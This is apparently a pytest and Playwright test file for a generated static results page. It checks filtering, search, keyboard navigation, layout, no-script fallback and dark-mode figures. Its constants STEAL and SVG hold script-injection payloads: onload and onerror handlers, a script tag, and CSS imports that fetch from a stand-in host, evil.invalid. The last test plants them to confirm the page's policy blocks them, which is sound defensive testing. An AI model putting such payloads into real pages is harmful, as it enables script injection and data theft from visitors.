"""The page of a paper in a real browser: it filters, searches, fits every screen, and runs nothing of others."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from synthetic_results import fill
from test_pages import hostile

from normless_papers.pages.site import write_pages_of
from normless_papers.published import published
from normless_papers.results.storage import FIGURE, save, stored

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

STEAL = "document.title='stolen';fetch('http://evil.invalid/x')"
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9pt" onload="{STEAL}">
<script>{STEAL}</script>
<image href="http://evil.invalid/a.png" width="9" height="9" onerror="{STEAL}"/>
<style>@import url(http://evil.invalid/a.css);</style>
<rect width="9" height="9" style="fill: url(http://evil.invalid/c.svg#p)"/></svg>"""
# The boxes of visible elements: left, top, right, bottom.
BOXES = """selector => [...document.querySelectorAll(selector)].filter(element => element.checkVisibility())
    .map(element => element.getBoundingClientRect()).map(box => [box.left, box.top, box.right, box.bottom])"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("page")
    fill(folder, [name for name in published() if name.startswith("fixup/")])
    write_pages_of(folder)
    return folder


@pytest.fixture(scope="module")
def results(folder: Path) -> list[Any]:
    return list(stored(folder))


@pytest.fixture
def opened(browser: Browser, folder: Path) -> Iterator[Any]:
    """Opens the page with settings of the browser; any complaint or request of the browser fails the test."""
    contexts, complaints = [], list[str]()

    def open_page(fragment: str = "", **settings: Any) -> Page:
        context = browser.new_context(**{"viewport": {"width": 1280, "height": 900}} | settings)
        contexts.append(context)
        context.set_default_timeout(10_000)
        page = context.new_page()
        page.on("console", lambda message: complaints.append(message.text))
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on(
            "request", lambda request: request.url.startswith(("file:", "data:")) or complaints.append(request.url)
        )
        page.goto((folder / "fixup.html").as_uri() + fragment)
        return page

    yield open_page
    for context in contexts:
        context.close()
    assert complaints == []


def shown(page: Page) -> set[str]:
    script = "[...document.querySelectorAll('article')].filter(card => card.checkVisibility()).map(card => card.id)"
    return set(page.evaluate(script))


def test_it_shows_all_with_figures_that_are_drawn(opened: Any, results: list[Any]) -> None:
    page = opened()
    assert shown(page) == {result.id for result in results}
    page.get_by_role("button", name="Open all").click()
    images = page.locator("figure img")
    assert images.count() == len(results)
    assert all(
        image.evaluate("image => image.decode().then(() => image.naturalWidth)") > 100 for image in images.all()
    )
    assert all(box["width"] > 250 and box["height"] > 150 for box in (image.bounding_box() for image in images.all()))
    page.get_by_role("button", name="Close all").click()
    assert not any(image.is_visible() for image in page.locator("article img").all())


@pytest.mark.parametrize(
    "chosen",
    [
        {"Kind": "training"},
        {"Verdict": "not seen here"},
        {"Budget": "small"},
        # Verdict and budget are those of one result.
        {"Budget": "small", "Verdict": "reproduced"},
    ],
)
def test_filters(opened: Any, results: list[Any], chosen: dict[str, str]) -> None:
    page = opened()
    for label, value in chosen.items():
        page.get_by_label(label, exact=True).select_option(value)
    fits = {
        result.id
        for result in results
        if all({"Kind": result.published.kind, "Verdict": result.verdict, "Budget": result.budget}[label] == value
               for label, value in chosen.items())
    }  # fmt: skip
    everything = len({result.id for result in results})
    assert 0 < len(fits) < everything
    assert shown(page) == fits
    assert page.get_by_role("status").inner_text() == f"{len(fits)} of {everything} artefacts"
    page.get_by_role("button", name="Reset").click()
    page.wait_for_function(f"document.querySelector('[role=status]').textContent.startsWith('{everything} of')")


@pytest.mark.parametrize("words", ["table-1", "FIXUP homogeneity", "no such words"])
def test_search(opened: Any, words: str) -> None:
    page = opened()
    page.get_by_label("Search").fill(words)
    texts = page.evaluate("[...document.querySelectorAll('article')].map(card => [card.id, card.textContent])")
    maybe = {name for name, text in texts if all(word in text.lower() for word in words.lower().split())}
    assert shown(page) <= maybe
    assert bool(shown(page)) == bool(maybe)


def test_links_open_what_they_lead_to_even_if_it_is_filtered_away(opened: Any) -> None:
    page = opened("#fixup/table-2")
    card = page.locator("article[id='fixup/table-2']")
    assert card.locator("figure").first.is_visible()
    page.get_by_label("Search").fill("table-2")
    card.get_by_role("link", name="fixup/table-1", exact=True).first.click()
    target = page.locator("article[id='fixup/table-1']")
    target.locator("figure").first.wait_for(state="visible")
    summary = target.locator("summary").first
    assert summary.evaluate("summary => summary === document.activeElement")
    bar = page.locator("form").bounding_box()
    assert summary.bounding_box()["y"] >= bar["y"] + bar["height"] - 1


def test_the_keyboard_is_enough(opened: Any) -> None:
    page = opened()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    first = page.locator("article summary").first
    assert first.evaluate("summary => summary === document.activeElement")
    assert first.evaluate("summary => getComputedStyle(summary).outlineStyle") == "solid"
    page.keyboard.press("Enter")
    assert page.locator("article figure").first.is_visible()
    reached = set()
    page.evaluate("document.activeElement.blur(); scrollTo(0, 0)")
    page.locator("h1").click()
    for _ in range(20):
        page.keyboard.press("Tab")
        reached.add(page.evaluate("document.activeElement.name || document.activeElement.textContent"))
    assert {"words", "kind", "verdict", "budget", "Reset", "Open all", "Close all"} <= reached


@pytest.mark.parametrize("width", [390, 1280])
def test_nothing_sticks_out(opened: Any, width: int) -> None:
    page = opened(viewport={"width": width, "height": 800})
    page.evaluate("document.querySelectorAll('details').forEach(details => details.open = true)")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    boxes = page.evaluate(BOXES, "article, form, .sheet, figure img, .badge, select, input, button, h2, h3, p")
    assert len(boxes) > 100
    assert all(left >= 0 and right <= width + 0.5 for left, _, right, _ in boxes)
    page.goto(page.url.replace("fixup.html", "index.html"))
    assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_without_its_script_all_is_there(opened: Any, results: list[Any]) -> None:
    page = opened(java_script_enabled=False)
    assert shown(page) == {result.id for result in results}
    assert not page.locator("form").is_visible()
    page.locator("article summary").first.click()
    assert page.locator("article figure").first.is_visible()


def test_a_figure_follows_the_page_into_the_dark(opened: Any) -> None:
    import io

    import numpy as np
    from PIL import Image

    means = []
    for scheme in ("light", "dark"):
        page = opened("#fixup/table-1", color_scheme=scheme)
        picture = page.locator("article[id='fixup/table-1'] figure img").first.screenshot()
        means.append(np.asarray(Image.open(io.BytesIO(picture)).convert("L"), dtype=float).mean())
    assert means[0] > 200
    assert means[1] < 80


@pytest.mark.parametrize("inside", [False, True], ids=["as a result", "in the page itself"])
def test_a_hostile_result_runs_and_loads_nothing(browser: Browser, tmp_path: Path, inside: bool) -> None:
    """A script in a text or a figure does not run; the page's policy alone holds too."""
    (save(hostile(), None, tmp_path) / FIGURE).write_text(SVG)
    _, path = write_pages_of(tmp_path)
    if inside:
        text = path.read_text("utf-8")
        path.write_text(
            text.replace("<main>", f'<main>{SVG}<script>{STEAL}</script><img src=x onerror="{STEAL}">', 1)
        )
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: request.failure == "csp" and asked.remove(request.url))
    page.goto(path.as_uri())
    page.evaluate("document.querySelectorAll('details').forEach(details => details.open = true)")
    page.wait_for_load_state("networkidle")
    assert page.title() != "stolen"
    assert {url for url in asked if not url.startswith("data:")} == {path.as_uri()}
    # The page's own script runs.
    assert page.get_by_role("status").inner_text() == "1 of 1 artefacts"
